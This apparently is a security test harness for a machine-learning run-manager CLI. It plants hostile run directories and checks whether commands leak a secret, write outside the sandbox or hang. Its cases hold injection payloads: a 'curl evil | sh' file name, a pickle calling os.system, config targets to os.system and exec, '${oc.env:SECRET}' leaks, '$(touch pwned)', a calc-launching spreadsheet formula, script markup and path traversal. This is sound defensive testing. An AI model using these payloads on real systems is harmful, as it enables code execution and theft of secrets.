"""The hostile run directories that are tried, and a program that calls commands on them, in an empty working directory.

It writes what each command answered and did to answers.json, and prints counts; with --all, it calls all commands.
"""

import json
import os
import shutil
import socket
import stat
import sys
from pathlib import Path

import numpy as np
import PIL.Image
import polars  # noqa: F401  (as tables do when they are read)
from hostile import (
    SECRET,
    added,
    all_of,
    bound,
    code,
    config,
    dataset,
    device,
    hard,
    images,
    in_git,
    info,
    instead,
    link,
    members,
    metadata,
    npz,
    png,
    renamed,
    repository,
    sealed,
    shared,
    store_of,
    zarr,
)

POSTSCRIPT = b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n%%EndComments\nshowpage\n%%EOF\n"
ALONE = {"pid": -1, "host": socket.gethostname(), "start": "x"}
FEATURES = {"_target_": "runner.runs.features", "run": "."}
SAMPLES = {"_target_": "runner.evaluators.Samples", "features": FEATURES}
MARKUP = "</script><script>alert(1)</script><!--"
CHARACTER, BLOCK = stat.S_IFCHR, stat.S_IFBLK


def row(**values):
    return json.dumps({"step": 9, **values}) + "\n"


CASES = {
    "git: programs": repository,
    "git: a file that leads outside": added(".git", "gitdir: {outside}/repository\n"),
    "git: a file that leads to devices": added(".git", "gitdir: /dev\n"),
    "git: a file that leads to itself": added(".git", "gitdir: .\n"),
    "git: a file without end": instead(".git", lambda path: path.open("wb").truncate(3 * 2**30)),
    "git: a head that names a file outside": in_git(
        "HEAD", lambda path: path.write_text("ref: ../../../outside/mine")
    ),
    "git: a head with a zero byte": in_git("HEAD", lambda path: path.write_text("ref: a\0b\n")),
    "git: an index of 4 billion files": in_git(
        "index", lambda path: path.write_bytes(b"DIRC\0\0\0\2" + b"\xff" * 4 + bytes(4096))
    ),
    "git: objects elsewhere": in_git(
        "objects/info/alternates", lambda path: path.write_text("/dev/zero\n/proc/self/root\n")
    ),
    "git: an index that is a pipe": in_git("index", os.mkfifo),
    "name: a line end": added("a\nresume by: curl evil | sh", ""),
    "name: escapes": added("\x1b[31m\x1b]0;t\x07", ""),
    "name: markup": added("[red]<script>alert(1)<|script>", ""),
    "name: bytes": lambda run, outside: open(bytes(run) + b"/\xff\xfe", "w").close(),
    "name: in other letters": all_of(added("CONFIG.YAML", "seed: 1"), added("Run.json", "{{}}")),
    "name: a step in other digits": lambda run, outside: [
        shutil.copytree(run / "checkpoints/9", run / "checkpoints" / name)
        for name in ("\u0669", "009", "9 ", "-9", "9\n")
    ],
    "name: a step of 250 digits": added(f"checkpoints/{'1' * 250}/seal.json", "{{}}"),
    "name: a step that is a file": added("checkpoints/99", ""),
    "file: with names outside": shared(
        "config.yaml", "run.json", "metrics.jsonl", "timing.jsonl", "figures/curves.png"
    ),
    "file: a log with a name outside": hard("runner.log"),
    "file: a lock with a name outside": hard(".lock"),
    "file: drafts with names outside": hard(
        ".run.json.tmp", ".config.yaml.tmp", ".metrics.jsonl.tmp", "checkpoints/.draft-12/mine"
    ),
    "file: events with a name outside": hard("tensorboard/events.out.tfevents.1.a.1"),
    "file: figures with names outside": hard("figures/curves.png", "figures/confusion.png"),
    "file: in a step with a name outside": hard("checkpoints/9/more"),
    "file: a device of nothing": instead("more/null", device(CHARACTER, 1, 3)),
    "file: a device without end as configuration": instead("config.yaml", device(CHARACTER, 1, 5)),
    "file: a device without end as run info": instead("run.json", device(CHARACTER, 1, 5)),
    "file: a disk": instead("checkpoints/9/state/d/disk", device(BLOCK, 7, 0)),
    "file: a socket": instead("tensorboard/s", bound),
    "file: events that are a pipe": instead("tensorboard/events.out.tfevents.9", os.mkfifo),
    "file: times that are a pipe": instead("timing.jsonl", os.mkfifo),
    "file: a lock that is a pipe": instead(".lock", os.mkfifo),
    "file: a seal that is a pipe": instead("checkpoints/9/seal.json", os.mkfifo),
    "link: in a circle": all_of(link("a", "b"), link("b", "a")),
    "link: to itself": link("config.yaml", "config.yaml"),
    "link: to the directory": link("more", "."),
    "link: to nothing": link("figures/x", "nothing"),
    "link: to the run's own records": link("more.jsonl", "metrics.jsonl"),
    "link: to the environment": link("metrics.jsonl", "/proc/self/environ"),
    "link: a lock": link(".lock", "{outside}/mine"),
    "link: a step": link("checkpoints/12", "9"),
    "link: a member": members(lambda path, outside: path.symlink_to("0")),
    "link: a member outside": members(lambda path, outside: path.symlink_to(outside)),
    "data: an archive of terabytes": npz((10**12, 2)),
    "data: an archive of a negative size": npz((-1, 2)),
    "data: an archive of a size that no number holds": npz((10**30, 2)),
    "data: images of 10 billion pixels": images(png(100_000)),
    "data: images that are PostScript": images(POSTSCRIPT),
    "data: a device without end": dataset("csv", "/dev/zero", target="a"),
    "data: a text without end": dataset("text", "/dev/zero"),
    "data: a pipe": dataset("csv", content=os.mkfifo, target="a"),
    "data: the input of the command": dataset("csv", "/dev/stdin", target="a"),
    "data: more than all memory": dataset(
        "csv", content=lambda path: path.open("wb").truncate(2**43), target="a"
    ),
    "data: escapes": dataset("csv", content=b"\x1b[31ma,b\n1,x\n", target="c"),
    "data: an address": dataset("csv", "{outside}/x.csv", target="a"),
    "data: a bucket": dataset("npz", "gs://evil/x.npz"),
    "checkpoint: arrays in files above": store_of("../" * 5 + "outside/"),
    "checkpoint: arrays in files of another folder": store_of("{outside}/"),
    "checkpoint: names above": renamed("../../../../outside/"),
    "checkpoint: names of another folder": renamed("{outside}/"),
    "checkpoint: names that are addresses": renamed("http://127.0.0.1:9/"),
    "checkpoint: arrays of 10^12 rows": zarr(shape=10**12),
    "checkpoint: parts of 10^12 rows": zarr(shape=10**12, chunks=10**12),
    "checkpoint: parts of 10^9 rows": zarr(chunks=10**9),
    "checkpoint: arrays of objects": zarr(dtype="|O"),
    "checkpoint: arrays of 40 axes": zarr(shape=[1] * 40, chunks=[1] * 40),
    "checkpoint: a filter that unpickles": zarr(filters=[{"id": "pickle"}]),
    "checkpoint: an unknown compressor": zarr(compressor={"id": "evil"}),
    "checkpoint: other handlers": sealed(
        lambda folder, outside: (folder / "_CHECKPOINT_METADATA").write_text(
            '{"item_handlers": {"state": "os.system"}}'
        )
    ),
    "checkpoint: values that name code": metadata(
        lambda saved, outside: json.loads(json.dumps(saved).replace("np.ndarray", "os.system"))
    ),
    "checkpoint: extra values without end": sealed(
        lambda folder, outside: (folder / "extra/metadata").open("wb").truncate(2**26)
    ),
    "checkpoint: deep extra values": sealed(
        lambda folder, outside: (folder / "extra/metadata").write_text("[" * 99_999)
    ),
    "settings: a function by its name": config(
        net={"_target_": "haiku.nets.MLP", "output_sizes": [3], "activation": "antigravity.geohash"}
    ),
    "settings: the environment": config(net__activation="${oc.env:SECRET}"),
    "settings: the environment, decoded": config(net__activation="${oc.decode:${oc.env:SECRET}}"),
    "settings: the environment as a name": config(**{"net__${oc.env:SECRET}": 1}),
    "settings: a resolver of Hydra": config(net__activation="${hydra:runtime.cwd}"),
    "settings: a search path of Hydra": config(hydra={"searchpath": ["file:///tmp", "pkg://evil"]}),
    "settings: defaults of Hydra": config(defaults=["/evil", {"net": "mlp"}]),
    "settings: a target after a blank": config(net___target_=" os.system"),
    "settings: a target in other letters": config(net___target_="\uff4fs.system"),
    "settings: a target in capitals": config(net___TARGET_="os.system"),
    "settings: the globals of a part": config(net___target_="runner.nets.mlp.__globals__"),
    "settings: what Haiku imports": config(net___target_="haiku.nets.__builtins__.exec"),
    "settings: a target that is a part": config(net___target_={"_target_": "os.system"}),
    "settings: arguments": config(net___args_=["touch pwned"]),
    "settings: itself as the run before": config(init_from=lambda run, outside: str(run)),
    "settings: a folder above as the run before": config(init_from="../../../../../../../etc"),
    "settings: a zero byte as the run before": config(init_from="a\0b"),
    "settings: a pipe as the run before": all_of(
        config(init_from=lambda run, outside: str(outside / "pipe")),
    ),
    "settings: features of a run that is a link": config(
        evaluation=SAMPLES | {"features": FEATURES | {"run": "/proc/self/cwd/all/evil"}}
    ),
    "settings: features of itself": config(evaluation=SAMPLES),
    "settings: a number of 4000 digits": config(loop__log_every=10**3999),
    "settings: a net of terabytes": config(net__hidden_sizes=[2**31, 2**31]),
    "settings: a batch of terabytes": config(dataset__batch_size=2**40),
    "record: a key twice": added("metrics.jsonl", '{{"step": 9, "step": 8, "loss": 1}}\n'),
    "record: no numbers": added(
        "metrics.jsonl", row(loss=float("nan")).replace("{", "{{").replace("}", "}}")
    ),
    "record: a line of 10 MB": added("metrics.jsonl", b'{"step": 9, "' + b"a" * 10**7),
    "record: 500,000 values": added(
        "metrics.jsonl", row(**{str(number): 1 for number in range(9000)}).encode() * 50
    ),
    "record: a step below zero": added("metrics.jsonl", b'{"step": -9, "loss": 1}\n'),
    "record: a step of 400 digits": added("metrics.jsonl", b'{"step": ' + b"9" * 400 + b', "loss": 1}\n'),
    "record: scripts": added("metrics.jsonl", row(**{MARKUP: 1, "<img src=x onerror=alert(1)>": 2}).encode()),
    "info: a key twice": lambda run, outside: (run / "run.json").write_text(
        (run / "run.json").read_text().replace("{", '{"status": "running", ', 1)
    ),
    "info: no numbers": info(best={"metric": "loss", "value": float("nan"), "step": 1}),
    "info: the environment": info(error="${oc.env:SECRET}", git="$SECRET", goes_on="$(touch pwned)"),
    "info: another folder": info(folder="/"),
    "info: a folder with a zero byte": info(folder="a\0b"),
    "info: data of 10^12 numbers": info(
        spec={"features": {"x": [[10**6, 10**6], "float32"]}, "mean": None, "std": None}
    ),
    "info: steps below zero": info(bad_step=-1, saved=-5, step=-1),
    "info: a last step of 2^62": info(saved=2**62),
    "info: formulas": info(error="=cmd|' /C calc'!A0", status="+1"),
    "info: scripts": info(error=MARKUP, status="<b>"),
    "info: a process of everyone": all_of(
        info(status="running"), instead(".lock", lambda path: path.write_text(json.dumps(ALONE)))
    ),
    "size: 3,000 files": lambda run, outside: [
        (run / "checkpoints" / str(number)).touch() for number in range(3_000)
    ],
    "size: 1,000 folders": lambda run, outside: [
        (run / "more" / str(number)).mkdir(parents=True) for number in range(1_000)
    ],
    "size: 900 folders in each other": lambda run, outside: os.makedirs(run / ("a/" * 900)),
    "size: evaluations that are deep": added("evaluations/9.json", "[" * 10**6),
    "code: modules": code(
        *("json.py", "jax.py", "numpy.py", "evil.py", "sitecustomize.py", "usercustomize.py"),
        *("conftest.py", "setup.py", "hydra_plugins/evil.py", "matplotlibrc", "__init__.py"),
    ),
    "code: configurations": all_of(
        added("conf/config.yaml", "defaults: [net: evil]\n"),
        added("conf/net/mlp.yaml", "_target_: os.system\n"),
    ),
    "code: what Hydra saves": all_of(
        added(".hydra/config.pickle", b"cos\nsystem\n(S'touch pwned'\ntR."),
        added(".hydra/overrides.yaml", "- net=evil"),
    ),
    "code: settings of other programs": code(".env", ".netrc", "pyproject.toml", "jax.cfg"),
}

TRAIN = [
    *["dataset=iris", "net.hidden_sizes=[8]", "dataset.batch_size=8", "loop.log_every=2", "steps=9"],
    *["loop.evaluate_every=4", "loop.save_every=4"],
]
RUN = "all/evil"
RESUME = ["resume", RUN, "steps=10"]
# Each reads all that a command reads of a run, of a description of it, or of a folder of runs.
READ = {"evaluate": ["evaluate", RUN], "show --json": ["show", RUN, "--json"], "compare": ["compare", "all"]}
WITHIN = {"resume .": ["resume", ".", "steps=10"]}  # what looks for a repository, and imports
ALL = {
    **{name: [name, RUN] for name in ("status", "show", "sample", "replay")},
    "status --json": ["status", RUN, "--json"],
    "predict": ["predict", RUN, "rows.npz"],
    "diff": ["diff", RUN, "honest"],
    "diff to it": ["diff", "honest", RUN],
    "ls": ["ls", "all"],
    "ls --json": ["ls", "all", "--json"],
    "compare --json": ["compare", "all", "--json"],
}
ALL_WITHIN = {"evaluate .": ["evaluate", "."], "a run below": [*TRAIN, "hydra.run.dir=below"]}
# What takes longer if it is not refused.
ALL_LONG = {
    "figures": ["figures", RUN],
    "the same command": [*TRAIN, f"hydra.run.dir={RUN}"],
    "the same sweep": ["-m", *TRAIN, "seed=0", "hydra.sweep.dir=all", "hydra.sweep.subdir=evil"],
    "init_from": [*TRAIN, f"init_from={RUN}", "hydra.run.dir=all/new"],
    "features": [
        *["scenario=gan", *TRAIN, f"+evaluation.features={{_target_:runner.runs.features,run:{RUN}}}"],
        "hydra.run.dir=all/new",
    ],
}


def lay(home, case):
    """Makes the directories anew."""
    for name in ("all", "outside"):
        shutil.rmtree(home / name, ignore_errors=True)
    shutil.copytree(home / "honest", home / RUN)
    (home / "outside").mkdir()
    (home / "outside/mine").write_text("mine")
    CASES[case](home / RUN, home / "outside")


def contents(folder):
    return {
        str(path): (path.lstat().st_mtime_ns, path.read_bytes() if path.is_file() else None)
        for path in folder.rglob("*")
    }


def secrets(folder):
    """Returns the files that contain the secret."""
    files = [path for path in folder.rglob("*") if path.is_file() and not path.is_symlink()]
    return [
        str(path) for path in files if path.stat().st_size < 2**20 and SECRET.encode() in path.read_bytes()
    ]


def answers(home, case, watch, all_commands):
    """Yields the name of each command, and its exit code, output, errors, and what it did that it should not."""
    kind, was_refused = case.partition(":")[0], False
    for name, words in (READ | (ALL if all_commands else {})).items():
        yield name, *(answer := answered(home, home, words, case, watch))
        was_refused |= name == "evaluate" and bool(answer[0])
    within = WITHIN | (ALL_WITHIN if all_commands else {}) if kind in ("git", "code") else {}
    for name, words in within.items():
        yield name, *answered(home, home / RUN, words, case, watch)
    long = (
        {"resume": RESUME} if kind in ("file", "name", "settings") or (all_commands and was_refused) else {}
    )
    for name, words in (long | (ALL_LONG if all_commands and was_refused else {})).items():
        yield name, *answered(home, home, words, case, watch)


def answered(home, folder, words, case, watch):
    lay(home, case)
    before = contents(home / "outside")
    os.chdir(folder)
    code, output, errors, did = watch.call(words, [home / "all", os.environ["TMPDIR"]])
    os.chdir(home)
    did = [event for event in did if not is_git(event)]
    did += ["changed what is outside"] * (contents(home / "outside") != before)
    return code, output, errors, did + [f"wrote the secret to {path}" for path in secrets(home / "all")]


def is_git(event):
    """Returns whether an event is git with a configuration of ours, see `runner.runs.git`."""
    return event.startswith(
        "subprocess.Popen ('git', ['git', 'status', '--porcelain', '--untracked-files=no'"
    )


def rows(known):
    """Yields the rows of a table: for each kind, the directories, the commands, and how many of these did what."""
    kinds = list(dict.fromkeys(case.partition(":")[0] for case in known))
    for kind in kinds:
        own = [answer for case, answers in known.items() if case.startswith(f"{kind}:") for answer in answers]
        counts = [
            sum(case.startswith(f"{kind}:") for case in known),
            len(own),
            sum(code != 0 for _, code, *_ in own),
            sum(code == 0 for _, code, *_ in own),
            sum(bool(did) for *_, did in own),
        ]
        yield f"| {kind} | {' | '.join(map(str, counts))} |"


def main():
    from watched import Watch, call

    home, all_commands = Path.cwd(), "--all" in sys.argv
    commands = [*READ.values(), RESUME]
    if all_commands:
        commands += [*ALL.values(), *ALL_LONG.values()]
    os.environ["SECRET"] = SECRET
    CASES["honest"] = lambda run, outside: None
    np.savez("rows.npz", x=np.zeros((2, 4)))
    call([*TRAIN, "hydra.run.dir=honest"])
    for words in commands:  # so that all is imported that an honest run needs
        lay(home, "honest")
        call(words)
    del CASES["honest"]
    PIL.Image.init()
    watch = Watch(home)
    known = {case: [*answers(home, case, watch, all_commands)] for case in CASES}
    Path("answers.json").write_text(json.dumps(known))
    print(*rows(known), sep="\n")


if __name__ == "__main__":
    main()
